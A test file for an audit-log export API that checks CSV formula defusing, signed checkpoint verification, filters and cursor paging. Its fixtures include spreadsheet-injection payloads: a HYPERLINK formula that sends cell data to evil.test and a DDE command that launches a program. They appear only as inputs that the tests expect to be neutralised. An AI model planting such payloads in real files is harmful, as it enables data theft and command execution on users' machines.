import { type KeyObject, randomUUID } from 'node:crypto';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, ORIGIN, type TestApp } from '../../../../test/support/app.ts';
import { addMember, as, createOrg, expectStatus, type Person } from '../../../../test/support/orgs.ts';
import { type AuditEntry, entryHash, entryLine } from '../../platform/audit/entry.ts';
import { checkpointSignatureValid, parsePublicKey } from '../../platform/audit/keys.ts';
import type { NewEntry } from '../../platform/audit/log.ts';
import { verifyExportLines } from '../../platform/audit/verify-file.ts';
import { encodeCursor } from '../../platform/http/paging.ts';

let t: TestApp;
/** A Scale org with a varied log: members invited and joining, role and profile changes. */
let org: { orgId: string; owner: Person };
let admin: Person;
let developer: Person;
/** Its whole log as listed before any test exported it, oldest first. */
let logged: AuditEntry[];

const base = (orgId: string) => `/api/v1/orgs/${orgId}`;
const exportUrl = (orgId: string, query: string) => `${base(orgId)}/audit-events/export?${query}`;

/** Text a spreadsheet would run as a formula, sent where an attacker controls it: the User-Agent. */
const FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", '@SUM(1,2)'];

function patchWithAgent(who: Person, orgId: string, userAgent: string, payload: object) {
  return t.app.inject({
    method: 'PATCH',
    url: base(orgId),
    headers: { cookie: who.cookie, origin: ORIGIN, 'user-agent': userAgent },
    payload,
  });
}

/** Every entry of the org's log, oldest first, read through the list route. */
async function listAll(who: Person, orgId: string): Promise<AuditEntry[]> {
  const res = expectStatus(await as(t.app, who).get(`${base(orgId)}/audit-events?limit=200`), 200).json();
  expect(res.nextCursor).toBeNull();
  return (res.items as AuditEntry[]).reverse();
}

async function publishedKeys(): Promise<Map<string, KeyObject>> {
  const res = expectStatus(await t.app.inject({ method: 'GET', url: '/api/v1/audit-keys' }), 200).json();
  return new Map(
    res.items.map((k: { keyId: string; publicKey: string }) => [k.keyId, parsePublicKey(k.publicKey)]),
  );
}

const linesOf = (res: LightMyRequestResponse) => res.body.split('\n').filter((line) => line !== '');

beforeAll(async () => {
  t = await createTestApp();
  org = await createOrg(t.app, { plan: 'pro' });
  admin = await addMember(t.app, org, 'admin', {}, t.mail);
  developer = await addMember(t.app, org, 'developer', {}, t.mail);
  const owner = as(t.app, org.owner);
  const member = `${base(org.orgId)}/members/${developer.userId}`;
  expectStatus(await owner.patch(member, { role: 'viewer' }), 200);
  expectStatus(await as(t.app, admin).patch(member, { role: 'developer' }), 200);
  for (const [i, agent] of FORMULAS.entries())
    expectStatus(await patchWithAgent(org.owner, org.orgId, agent, { name: `Formula ${i}` }), 200);
  expectStatus(
    await as(t.app, admin).patch(base(org.orgId), {
      description: 'Line one\nline "two", with a comma',
      industry: '-5 degrees',
    }),
    200,
  );
  for (let i = 0; i < 4; i++) expectStatus(await owner.patch(base(org.orgId), { name: `Acme ${i}` }), 200);
  logged = await listAll(org.owner, org.orgId);
});
afterAll(async () => {
  await t?.close();
});

/** RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold both. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') {
      if (cell !== '') throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`a bare line break outside quotes at ${i}`);
    } else cell += c;
  }
  if (quoted) throw new Error('an unterminated quoted field');
  if (cell !== '' || record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
}

const CSV_HEADER = [
  'seq',
  'id',
  'occurredAt',
  'actorType',
  'actorId',
  'actorEmail',
  'action',
  'targetType',
  'targetId',
  'before',
  'after',
  'ip',
  'userAgent',
  'requestId',
  'prevHash',
  'hash',
  'actorTokenId',
  'targetName',
  'targetEmail',
];

/** What each CSV cell of an entry holds, before the formula guard. */
function csvValues(e: AuditEntry): string[] {
  const text = (v: unknown) =>
    v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v);
  return [
    e.seq,
    e.id,
    e.occurredAt,
    e.actor.type,
    e.actor.id,
    e.actor.email,
    e.action,
    e.target.type,
    e.target.id,
    e.before,
    e.after,
    e.ip,
    e.userAgent,
    e.requestId,
    e.prevHash,
    e.hash,
    e.actor.tokenId,
    e.target.name,
    e.target.email,
  ].map((v) => (typeof v === 'number' ? String(v) : text(v)));
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('GET /orgs/:orgId/audit-events/export', () => {
  it('CSV: a header, one record per entry, formulas defused and special characters quoted', async () => {
    const res = expectStatus(await as(t.app, org.owner).get(exportUrl(org.orgId, 'format=csv')), 200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [header, ...records] = parseCsv(res.body);
    expect(header).toEqual(CSV_HEADER);
    expect(records).toHaveLength(logged.length);
    let defused = 0;
    for (const [i, entry] of logged.entries()) {
      const values = csvValues(entry);
      const cells = records[i]!;
      expect(cells).toHaveLength(CSV_HEADER.length);
      for (const [c, value] of values.entries()) {
        if (FORMULA_START.test(value)) {
          expect(cells[c]).toBe(`'${value}`);
          defused++;
        } else expect(cells[c]).toBe(value);
      }
      expect(JSON.parse(cells[10]! || 'null')).toEqual(entry.after);
    }
    // The formula User-Agents only: the industry "-5 degrees" sits inside the JSON of `after`.
    expect(defused).toBe(FORMULAS.length);
    const agents = records.map((r) => r[12]);
    for (const formula of FORMULAS) expect(agents).toContain(`'${formula}`);
    // The description's quote, comma and line break survive inside the JSON of `after`.
    const described = logged.findIndex((e) => e.actor.id === admin.userId && e.action === 'org.updated');
    expect(JSON.parse(records[described]![10]!).description).toBe('Line one\nline "two", with a comma');
  });

  it('CSV: a raw line break, quote or comma in any cell is quoted; a leading tab or minus is defused', async () => {
    const other = await createOrg(t.app, { plan: 'pro' });
    const awkward: NewEntry = {
      chain: { kind: 'org', id: other.orgId },
      actor: { type: 'user', id: other.owner.userId, email: other.owner.email },
      action: 'org.updated',
      target: {
        type: 'member',
        id: '@target, "quoted"\r\nand on',
        name: '=HYPERLINK("http://evil.test/","Open")',
        email: '+cmd@evil.test, "x"',
      },
      after: { name: '=1+1' },
      meta: { ip: '-1', userAgent: '\tTabbed, "agent"\nnext line', requestId: 'plain' },
    };
    await t.app.gatehouse.audit.appendNow([awkward]);
    const res = expectStatus(await as(t.app, other.owner).get(exportUrl(other.orgId, 'format=csv')), 200);
    const records = parseCsv(res.body);
    expect(records).toHaveLength(3);
    const cells = records[2]!;
    expect(cells[8]).toBe(`'@target, "quoted"\r\nand on`);
    expect(cells[10]).toBe('{"name":"=1+1"}');
    expect(cells[11]).toBe(`'-1`);
    expect(cells[12]).toBe(`'\tTabbed, "agent"\nnext line`);
    expect(cells[13]).toBe('plain');
    // The target's words are text people typed: the same guard, in the last two columns.
    expect(cells[17]).toBe(`'=HYPERLINK("http://evil.test/","Open")`);
    expect(cells[18]).toBe(`'+cmd@evil.test, "x"`);
  });

  it('JSON: one document with the entries and the checkpoints that sign its ends', async () => {
    const entries = await listAll(org.owner, org.orgId);
    const res = expectStatus(await as(t.app, org.owner).get(exportUrl(org.orgId, 'format=json')), 200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    const doc = JSON.parse(res.body);
    const last = entries[entries.length - 1]!;
    expect(doc).toMatchObject({ orgId: org.orgId, fromSeq: 1, toSeq: last.seq, anchor: null });
    expect(Number.isNaN(Date.parse(doc.exportedAt))).toBe(false);
    expect(doc.entries).toEqual(entries);
    for (const e of doc.entries) expect(entryHash(e)).toBe(e.hash);
    expect(doc.end).toMatchObject({ orgId: org.orgId, seq: last.seq, hash: last.hash });
    const key = (await publishedKeys()).get(doc.end.keyId);
    expect(key).toBeDefined();
    expect(checkpointSignatureValid(key!, 'org', org.orgId, doc.end)).toBe(true);
  });

  it('JSON Lines: canonical entry lines between signed checkpoints, verifying offline', async () => {
    const entries = await listAll(org.owner, org.orgId);
    const res = expectStatus(await as(t.app, org.owner).get(exportUrl(org.orgId, 'format=jsonl')), 200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="gatehouse-audit-${org.orgId}-[0-9TZ-]+\\.jsonl"$`),
    );
    const lines = linesOf(res);
    expect(lines).toHaveLength(entries.length + 1);
    expect(lines.slice(0, -1)).toEqual(entries.map(entryLine));
    const last = entries[entries.length - 1]!;
    const report = await verifyExportLines(lines, await publishedKeys());
    expect(report).toMatchObject({
      ok: true,
      checked: entries.length,
      firstSeq: 1,
      headSeq: last.seq,
      signedSeq: last.seq,
      chain: { kind: 'org', id: org.orgId },
    });
    // One edited byte anywhere is caught.
    const edited = [...lines];
    edited[3] = edited[3]!.replace('"action":"', '"action":"x');
    expect(await verifyExportLines(edited, await publishedKeys())).toMatchObject({
      ok: false,
      firstBadSeq: 4,
    });
  });

  it('names each download after the org and its format', async () => {
    for (const format of ['csv', 'json', 'jsonl']) {
      const res = expectStatus(await as(t.app, org.owner).get(exportUrl(org.orgId, `format=${format}`)), 200);
      expect(res.headers['content-disposition']).toMatch(
        new RegExp(`^attachment; filename="gatehouse-audit-${org.orgId}-[^"/\\\\]+\\.${format}"$`),
      );
    }
  });

  it('exports a time range: the anchor checkpoint leads, and the file verifies on its own', async () => {
    // Two boundaries where the time moves on (entries written in one millisecond share it).
    const at = (i: number) => Date.parse(logged[i]!.occurredAt);
    const fromIdx = logged.findIndex((_, i) => i >= 2 && at(i) > at(i - 1));
    const toIdx = logged.findIndex((_, i) => i >= fromIdx + 2 && at(i) > at(i - 1));
    expect(fromIdx).toBeGreaterThan(0);
    expect(toIdx).toBeGreaterThan(fromIdx);
    const from = logged[fromIdx]!.occurredAt;
    const to = logged[toIdx]!.occurredAt;
    const expected = logged.slice(fromIdx, toIdx);

    const res = expectStatus(
      await as(t.app, org.owner).get(
        exportUrl(org.orgId, `format=jsonl&from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`),
      ),
      200,
    );
    const lines = linesOf(res);
    expect(lines).toHaveLength(expected.length + 2);
    expect(JSON.parse(lines[0]!).checkpoint).toMatchObject({
      orgId: org.orgId,
      seq: expected[0]!.seq - 1,
      hash: logged[fromIdx - 1]!.hash,
    });
    expect(lines.slice(1, -1)).toEqual(expected.map(entryLine));
    expect(JSON.parse(lines[lines.length - 1]!).checkpoint).toMatchObject({
      seq: expected[expected.length - 1]!.seq,
    });
    expect(await verifyExportLines(lines, await publishedKeys())).toMatchObject({
      ok: true,
      firstSeq: expected[0]!.seq,
      headSeq: expected[expected.length - 1]!.seq,
      checked: expected.length,
    });

    // The export is in the log, with what it covered.
    const [recorded] = expectStatus(
      await as(t.app, org.owner).get(`${base(org.orgId)}/audit-events?limit=1`),
      200,
    ).json().items;
    expect(recorded).toMatchObject({
      action: 'audit.exported',
      actor: { type: 'user', id: org.owner.userId },
      target: { type: 'audit_log', id: org.orgId },
      after: {
        format: 'jsonl',
        from: new Date(from).toISOString(),
        to: new Date(to).toISOString(),
        fromSeq: expected[0]!.seq,
        toSeq: expected[expected.length - 1]!.seq,
      },
    });
  });

  it('records every export as audit.exported, an empty range too', async () => {
    const res = expectStatus(
      await as(t.app, org.owner).get(exportUrl(org.orgId, 'format=csv&from=2999-01-01T00:00:00Z')),
      200,
    );
    expect(parseCsv(res.body)).toEqual([CSV_HEADER]);
    const [recorded] = expectStatus(
      await as(t.app, org.owner).get(`${base(org.orgId)}/audit-events?limit=1`),
      200,
    ).json().items;
    expect(recorded).toMatchObject({
      action: 'audit.exported',
      after: { format: 'csv', from: '2999-01-01T00:00:00.000Z', to: null, fromSeq: null, toSeq: null },
    });
  });

  it('is not on the Free plan (403 plan_limit), and nothing is recorded', async () => {
    const free = await createOrg(t.app, { plan: 'free' });
    const before = await listAll(free.owner, free.orgId);
    for (const format of ['csv', 'json', 'jsonl']) {
      const res = expectStatus(
        await as(t.app, free.owner).get(exportUrl(free.orgId, `format=${format}`)),
        403,
      );
      expect(res.json().code).toBe('plan_limit');
    }
    expect(await listAll(free.owner, free.orgId)).toEqual(before);
  });

  it('streams a long log (5,000 entries) in order, and it verifies', async () => {
    const big = await createOrg(t.app, { plan: 'pro' });
    const entry = (i: number): NewEntry => ({
      chain: { kind: 'org', id: big.orgId },
      actor: { type: 'user', id: big.owner.userId, email: big.owner.email },
      action: 'member.signed_in',
      target: { type: 'session', id: randomUUID() },
      after: { n: i },
      meta: { ip: '203.0.113.7', userAgent: 'bulk', requestId: null },
    });
    for (let batch = 0; batch < 5; batch++)
      await t.app.gatehouse.audit.appendNow(Array.from({ length: 1000 }, (_, i) => entry(batch * 1000 + i)));
    const total = 5001;

    const res = expectStatus(await as(t.app, big.owner).get(exportUrl(big.orgId, 'format=jsonl')), 200);
    // Sent as a stream (chunked), not as one buffered body with a length.
    expect(res.headers['content-length']).toBeUndefined();
    const lines = linesOf(res);
    expect(lines).toHaveLength(total + 1);
    const seqs = lines.slice(0, -1).map((line) => (JSON.parse(line) as AuditEntry).seq);
    expect(seqs).toEqual(Array.from({ length: total }, (_, i) => i + 1));
    expect(await verifyExportLines(lines, await publishedKeys())).toMatchObject({
      ok: true,
      checked: total,
      headSeq: total,
      signedSeq: total,
    });
    // The CSV, made after it, also lists that first export's own entry.
    const csv = expectStatus(await as(t.app, big.owner).get(exportUrl(big.orgId, 'format=csv')), 200);
    expect(parseCsv(csv.body)).toHaveLength(1 + total + 1);
    expect(
      expectStatus(await as(t.app, big.owner).get(`${base(big.orgId)}/audit-events/verify`), 200).json(),
    ).toMatchObject({ ok: true, headSeq: total + 2 });
  });

  it('refuses a file whose entries were all removed, leaving its checkpoints', async () => {
    const res = expectStatus(await as(t.app, org.owner).get(exportUrl(org.orgId, 'format=jsonl')), 200);
    const checkpointsOnly = linesOf(res).filter((line) => line.startsWith('{"checkpoint":'));
    expect(checkpointsOnly).toHaveLength(1);
    const report = await verifyExportLines(checkpointsOnly, await publishedKeys());
    expect(report.ok).toBe(false);
  });
});

describe('GET /orgs/:orgId/audit-events filters', () => {
  const list = async (query: string, who: Person = org.owner) =>
    expectStatus(await as(t.app, who).get(`${base(org.orgId)}/audit-events?${query}`), 200).json();
  /** Sequence numbers of the entries (newest first) the list should return. */
  const expectedSeqs = (keep: (e: AuditEntry) => boolean) =>
    logged
      .filter(keep)
      .map((e) => e.seq)
      .reverse();
  const seqsOf = (page: { items: AuditEntry[] }) => page.items.map((e) => e.seq);

  it('by exact action', async () => {
    const want = expectedSeqs((e) => e.action === 'member.role_changed');
    expect(want).toHaveLength(2);
    expect(seqsOf(await list('action=member.role_changed&limit=200'))).toEqual(want);
    expect(seqsOf(await list('action=member.nothing&limit=200'))).toEqual([]);
  });

  it('by every action of a resource (member.*), with _ and % taken literally', async () => {
    const want = expectedSeqs((e) => e.action.startsWith('member.'));
    expect(new Set(logged.filter((e) => want.includes(e.seq)).map((e) => e.action))).toEqual(
      new Set(['member.invited', 'member.role_changed']),
    );
    const page = await list('action=member.*&limit=200');
    expect(seqsOf(page)).toEqual(want);
    expect(seqsOf(await list('action=me_ber.*&limit=200'))).toEqual([]);
    expect(seqsOf(await list('action=org.*&limit=200'))).toEqual(
      expectedSeqs((e) => e.action.startsWith('org.')),
    );
  });

  it('by actor and by target, alone or together', async () => {
    const byAdmin = expectedSeqs((e) => e.actor.id === admin.userId);
    expect(byAdmin.length).toBeGreaterThanOrEqual(2);
    expect(seqsOf(await list(`actorId=${admin.userId}&limit=200`))).toEqual(byAdmin);
    const onDeveloper = expectedSeqs((e) => e.target.id === developer.userId);
    expect(onDeveloper.length).toBeGreaterThanOrEqual(2);
    expect(seqsOf(await list(`targetId=${developer.userId}&limit=200`))).toEqual(onDeveloper);
    expect(seqsOf(await list(`actorId=${admin.userId}&targetId=${developer.userId}&limit=200`))).toEqual(
      expectedSeqs((e) => e.actor.id === admin.userId && e.target.id === developer.userId),
    );
    expect(seqsOf(await list(`action=member.*&actorId=${org.owner.userId}&limit=200`))).toEqual(
      expectedSeqs((e) => e.action.startsWith('member.') && e.actor.id === org.owner.userId),
    );
  });

  it('by time: from inclusive, to exclusive', async () => {
    const from = logged[3]!.occurredAt;
    const to = logged[logged.length - 2]!.occurredAt;
    const inRange = (e: AuditEntry) => e.occurredAt >= from && e.occurredAt < to;
    const want = expectedSeqs((e) => e.seq <= logged[logged.length - 1]!.seq && inRange(e));
    expect(want.length).toBeGreaterThan(0);
    const page = await list(`from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}&limit=200`);
    expect(seqsOf(page).filter((s) => s <= logged[logged.length - 1]!.seq)).toEqual(want);
    expect(seqsOf(await list(`to=${encodeURIComponent(logged[0]!.occurredAt)}`))).toEqual([]);
  });

  it('pages with a cursor: every entry once, none skipped', async () => {
    const head = logged[logged.length - 1]!.seq;
    const seen: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: { items: AuditEntry[]; nextCursor: string | null } = await list(
        `limit=3${cursor ? `&cursor=${cursor}` : ''}`,
      );
      seen.push(...seqsOf(page));
      cursor = page.nextCursor;
      pages++;
    } while (cursor);
    // Exports made by earlier tests are newer entries; all of them are listed once too.
    expect(seen).toEqual([...new Set(seen)]);
    expect(seen).toEqual([...seen].sort((a, b) => b - a));
    expect(seen.filter((s) => s <= head)).toEqual(logged.map((e) => e.seq).reverse());
    expect(seen[0]! - seen[seen.length - 1]! + 1).toBe(seen.length);
    expect(pages).toBe(Math.ceil(seen.length / 3));

    const filtered: number[] = [];
    cursor = null;
    do {
      const page: { items: AuditEntry[]; nextCursor: string | null } = await list(
        `action=org.updated&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
      );
      filtered.push(...seqsOf(page));
      cursor = page.nextCursor;
    } while (cursor);
    expect(filtered).toEqual(expectedSeqs((e) => e.action === 'org.updated'));
  });

  it('refuses a forged cursor, a time that is not one, and an empty range (400)', async () => {
    const refused = async (query: string) => {
      const res = expectStatus(
        await as(t.app, org.owner).get(`${base(org.orgId)}/audit-events?${query}`),
        400,
      );
      expect(res.json().code).toBe('validation_failed');
    };
    const seqCursor = (text: string) => Buffer.from(text).toString('base64url');
    await refused('cursor=not-a-cursor');
    await refused(`cursor=${seqCursor('seq:0')}`);
    await refused(`cursor=${seqCursor('seq:-4')}`);
    await refused(`cursor=${seqCursor('seq:1e3')}`);
    await refused(`cursor=${encodeCursor({ createdAt: new Date(), id: randomUUID() })}`);
    await refused('from=yesterday');
    await refused('to=2024-02-30T00:00:00Z');
    await refused('from=1969-12-31T23:59:59Z');
    const time = encodeURIComponent(logged[2]!.occurredAt);
    await refused(`from=${time}&to=${time}`);
    await refused(`from=2025-01-02T00:00:00Z&to=2025-01-01T00:00:00Z`);
    await refused('action=member.%25');
    await refused('actorId=a%20b');
  });
});
